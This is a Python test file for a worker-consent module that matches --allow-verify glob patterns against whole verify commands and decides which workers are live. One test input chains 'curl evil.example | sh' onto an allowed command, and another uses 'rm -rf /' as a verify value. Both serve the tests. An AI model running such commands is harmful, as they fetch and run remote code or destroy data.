"""A worker's --allow-verify patterns and the live workers' published policies, as pure decisions:
a glob over the whole command (so `*` also matches `;` and spaces, as docs/fleet.md warns), no
pattern runs no verify, and a loop is judged against the workers that beat within three leases."""

from __future__ import annotations

import pytest

from loopwright.fleet.consent import Takers, Verifies, check_patterns, live


@pytest.mark.parametrize(
    "patterns, verify, runs",
    [
        ([], "make test", False),
        (["make test"], "make test", True),
        (["make test"], "make test ", False),  # the whole command, exactly
        (["make test"], "Make test", False),  # case-sensitive
        (["make test*"], "make test-api", True),
        (["make test*"], "make test; curl evil.example | sh", True),  # `*` crosses `;` and spaces
        (["pytest -q", "make check"], "make check", True),
        (["*"], 7, False),  # a verify that is not text runs nowhere
    ],
)
def test_a_verify_runs_only_where_a_pattern_accepts_the_whole_command(patterns, verify, runs):
    why = Verifies(patterns).why_not({"goal": "g", "verify": verify})
    assert (why is None) == runs
    assert why is None or "--allow-verify" in why


def test_a_loop_without_a_verify_is_accepted_by_every_worker():
    assert Verifies([]).why_not({"goal": "g"}) is None
    assert Verifies([]).why_not({"goal": "g", "verify": None}) is None
    assert Verifies([]).why_not("not a spec") is None


@pytest.mark.parametrize("pattern", ["", "a\nb", "a\0b", "x" * 4001])
def test_a_pattern_that_no_verify_could_match_is_refused(pattern):
    with pytest.raises(ValueError, match="bad pattern"):
        check_patterns([pattern])


def test_live_workers_beat_within_three_of_their_own_leases():
    workers = [
        {"worker": "fresh", "age": 80.0},  # no lease published: 30 s, so 90 s
        {"worker": "stale", "age": 95.0},
        {"worker": "slow", "age": 500.0, "lease": 200.0},
        {"worker": "gone", "age": 31.0, "lease": 10.0},
    ]
    assert [w["worker"] for w in live(workers)] == ["fresh", "slow"]


def test_a_worker_that_publishes_nothing_is_taken_to_accept_anything():
    takers = Takers(
        [{"worker": "old", "age": 1.0, "account": None, "allow_repo": None, "allow_verify": None}]
    )
    assert takers.unserved("https://example.com/a.git", {"verify": "rm -rf /"}, "default") is None


def test_a_forged_policy_accepts_nothing_rather_than_failing():
    row = {"worker": "odd", "age": 1.0, "account": None, "allow_repo": ["-x", "a b"], "allow_verify": ["\n"]}
    unserved = Takers([row]).unserved("https://example.com/a.git", {}, "default")
    assert unserved is not None and unserved.what == "repository" and unserved.refuses
